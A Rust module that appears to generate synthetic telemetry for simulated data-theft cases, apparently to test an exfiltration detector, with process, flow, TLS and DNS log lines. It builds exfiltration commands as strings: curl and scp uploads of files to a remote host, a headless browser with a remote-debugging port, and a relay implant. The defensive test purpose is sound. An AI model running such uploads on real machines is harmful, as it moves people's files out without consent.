//! The last act: somebody sends.

use super::cast::{CHROME, CHROME_HELPER, CURL, IMPLANTS, LAUNCHD, PLAIN, SCP};
use super::play::Play;
use super::scene::{SECOND, Scene, delay};
use super::theft::{Break, Method, Trace};

/// Who issues certificates; sites may distrust some.
const ISSUERS: &[&str] =
    &["CN=R3", "CN=R3", "CN=R3", "CN=Kit CA,O=Kit\\\\, Inc.,C=US", "C=US, o=KIT\\\\2c INC., cn=Kit  CA", "CN=Kit CA,O=Kit,C=US", "no name"];

/// When certificates begin to be valid. Flows begin on 2026-03-01, some of them thirty days after the third.
const BEGINS: &[&str] = &[
    "",
    "from=2025-06-01T00:00:00",
    "from=2026-01-30T04:00:00",
    "from=2026-02-20T00:00:00",
    "from=2026-03-01T04:00:00",
    "from=1700-01-01T00:00:00",
    "from=2262-01-01T00:00:00",
];

/// When they end: on the hour, some last 825 days, or eight.
const ENDS: &[&str] = &[
    "",
    "until=2026-05-01T00:00:00",
    "until=2028-05-04T04:00:00",
    "until=2028-05-04T04:00:01",
    "until=2026-02-28T00:00:00",
    "until=2026-02-27T23:59:59",
    "until=1700-01-02T00:00:00",
    "until=2262-01-02T00:00:00",
];

impl Play<'_> {
    /// Brings the sender to the point of sending.
    pub(crate) fn sender(&mut self, file: &str, collector: Option<u32>) -> u32 {
        self.now += self.plan.delays[1];
        let place = self.plan.place;
        let named = self.plan.trace == Trace::Named;
        let host = if named { place.name } else { "up" };
        let sender = self.plan.sender;
        let argv = match sender {
            CURL if named => format!("curl -T \"{file}\" https://{host}/up"),
            CURL => format!("curl -K /private/tmp/conf -T \"{file}\""),
            SCP => format!("scp \"{file}\" ana@{host}:/srv/"),
            _ => format!("agent --send {host}"),
        };
        match (self.plan.method, collector) {
            _ if self.plan.broken == Some(Break::Stranger) => {
                let parent = self.scene.there_is(self.now, "launchd", 0, LAUNCHD);
                self.scene.spawn(self.now, parent, CURL, &format!("curl -d x https://{host}/"))
            }
            (Method::Direct | Method::PackAndSend | Method::Secret | Method::Pipeline | Method::Entrusted, Some(pid))
            | (Method::Served | Method::Contained, Some(pid)) => pid,
            (Method::Driven, Some(pid)) => self.browser(pid, host, file),
            (Method::Daemon, Some(pid)) => {
                if self.random.chance(50) {
                    self.scene.exec(self.now, pid, sender, &argv);
                }
                pid
            }
            (Method::Child, Some(pid)) => {
                let child = self.scene.fork(self.now, pid);
                if self.random.chance(60) {
                    self.scene.exec(self.now + SECOND / 100, child, CURL, &format!("curl -d @- https://{host}/up"));
                }
                child
            }
            (Method::Piped, _) => self.scene.spawn(self.now, self.shell, CURL, &format!("curl -T - https://{host}/up")),
            (Method::Become, Some(pid)) => {
                self.scene.exec(self.now, pid, sender, &argv);
                self.read_by_sender(pid, file);
                pid
            }
            _ if sender == CURL && self.random.chance(15) => self.decoy(host),
            _ => {
                let pid = self.scene.spawn(self.now, self.shell, sender, &argv);
                self.read_by_sender(pid, file);
                pid
            }
        }
    }

    /// A command that says what it sends: a file of no interest, which may be a pipe, and perhaps more in words.
    fn decoy(&mut self, host: &str) -> u32 {
        let (file, words) = (PLAIN[0], self.random.pick(&[0, 200, 300, 1_500]));
        let argv = format!("curl -H \"X: {}\" -T {file} https://{host}/up", "a".repeat(words));
        let pid = self.scene.spawn(self.now, self.shell, CURL, &argv);
        let size = self.random.pick(&[0, self.plan.size, self.plan.size]);
        self.scene.say(self.now + SECOND / 10, &format!("read {pid} {file} size={size}"));
        self.now += SECOND / 10;
        pid
    }

    /// A browser that is told to send a file, or that somebody uses; a process of its own may send for it.
    fn browser(&mut self, collector: u32, host: &str, file: &str) -> u32 {
        let orders =
            ["--headless=new --user-data-dir=/private/tmp/p --remote-debugging-port=9222", "--headless", "--remote-debugging-port=1337"];
        let orders = if self.plan.broken == Some(Break::Undriven) { "" } else { self.random.pick(&orders) };
        let parent = if self.random.chance(60) { collector } else { self.scene.there_is(self.now, "launchd", 0, LAUNCHD) };
        let browser = self.scene.spawn(self.now, parent, CHROME, &format!("Chrome {orders} https://{host}/"));
        let helper =
            self.random.chance(60).then(|| self.scene.spawn(self.now + SECOND / 50, browser, CHROME_HELPER, "helper --type=utility"));
        self.read_by_sender(browser, file);
        helper.unwrap_or(browser)
    }

    fn read_by_sender(&mut self, pid: u32, file: &str) {
        self.now += SECOND / 10;
        self.scene.say(self.now, &format!("read {pid} \"{file}\" size={}", self.plan.size));
    }

    /// The flow, and what names it.
    pub(crate) fn send(&mut self, pid: u32, file: &str, away: &mut Scene) {
        let plan = self.plan;
        let (place, size) = (plan.place, plan.size);
        let start = (self.now + plan.flow_start).max(1);
        let end = start + plan.flow_length;
        let uid = self.scene.uid();
        let port = self.random.pick(&[443, 443, 443, 22, 8443, 80, 465]);
        // A proxy on the site's own network may pass it on, and be asked for it in words that the sensor understands.
        let proxied = plan.start / SECOND % 8 == 3;
        let (address, port) = if proxied { ("10.0.0.1", 3128) } else { (place.address, port) };
        let (near, far) = (format!("10.0.0.5:{}", 50_000 + self.random.below(3)), format!("{address}:{port}"));
        // The two clocks differ: a process connects once it is there.
        let connects = start.max(self.now);
        // Some sensors take the terminal for the sender.
        let told = self.terminal.filter(|_| plan.start / SECOND % 4 == 0).unwrap_or(pid);
        // And some processes send by another, which a port of the machine itself leads to.
        let relays = plan.start / SECOND % 5 == 1 && matches!(plan.trace, Trace::Exact | Trace::Remote);
        let told = if relays {
            if self.random.chance(70) {
                let at = connects + self.random.pick(&[0, 0, 1, 125]) * SECOND;
                self.scene.say(at, &format!("connect {pid} tcp -> 127.0.0.1:8787"));
            }
            let launchd = self.scene.there_is(self.now, "launchd", 0, LAUNCHD);
            self.scene.spawn(self.now, launchd, IMPLANTS[5], "relay")
        } else {
            told
        };
        match plan.trace {
            Trace::Exact => self.scene.say(connects, &format!("connect {told} tcp {near} -> {far}")),
            Trace::Remote => self.scene.say(connects, &format!("connect {told} tcp -> {far}")),
            Trace::Named | Trace::Mute => {}
        }
        let leaves = end.max(connects) + delay(self.random);
        if self.random.chance(70) {
            self.scene.say(leaves, &format!("exit {pid}"));
        }
        let matches = matches!(self.random.below(3), 0) && !file.is_empty();
        let per_mille = if matches { self.random.pick(&[969, 970, 1_000, 1_100, 1_101, 1_330, 1_450]) } else { 3_000 };
        let mut flow = format!("flow {uid} {near} -> {far} tcp for {}s", plan.flow_length / SECOND);
        if self.random.chance(85) {
            flow.push_str(&format!(" out={} in={}", size * per_mille / 1_000, self.random.pick(&[0, 900, 20_000])));
        }
        if proxied {
            flow.push_str(self.random.pick(&[" service=http service=ssl", " service=socks service=ssl", " service=http", " service=ssl"]));
        }
        let scene = if plan.broken == Some(Break::OtherHost) { away } else { &mut *self.scene };
        let handshake = self.random.chance(80);
        scene.say(start, &flow);
        if handshake {
            let (own, validated) = (self.random.chance(15), self.random.pick(&["", "validated=yes", "validated=no"]));
            let sni = if self.random.chance(80) { format!("sni={}", place.name) } else { String::new() };
            let issuer = if own { format!("CN={}", place.name) } else { self.random.pick(ISSUERS).to_owned() };
            // Some sensors tell the issuer in the handshake's own row.
            let inline = if self.random.chance(10) { format!("issuer=\"{}\"", self.random.pick(ISSUERS)) } else { String::new() };
            scene.say(start, &format!("tls {uid} {sni} established cert=F{uid} {inline} {validated}"));
            let names = self.random.pick(&["", "name=*.example", "name=other.example"]);
            let names = if self.random.chance(50) { format!("name={}", place.name) } else { names.to_owned() };
            let (from, until) = (self.random.pick(BEGINS), self.random.pick(ENDS));
            scene.say(start, &format!("cert F{uid} subject=CN={} issuer=\"{issuer}\" {from} {until} {names}", place.name));
            // The sensor tells of it again, and of another that it knows by the same name.
            if self.random.chance(5) {
                let (issuer, from, until) = (self.random.pick(ISSUERS), self.random.pick(BEGINS), self.random.pick(ENDS));
                scene.say(start, &format!("cert F{uid} issuer=\"{issuer}\" {from} {until}"));
            }
        }
        if self.random.chance(70) {
            let before = self.random.pick(&[0, 1, 50, 599, 601]) * SECOND;
            scene.say((start - before).max(0), &format!("dns 10.0.0.5 {} -> {address} ttl=60", place.name));
        }
    }
}
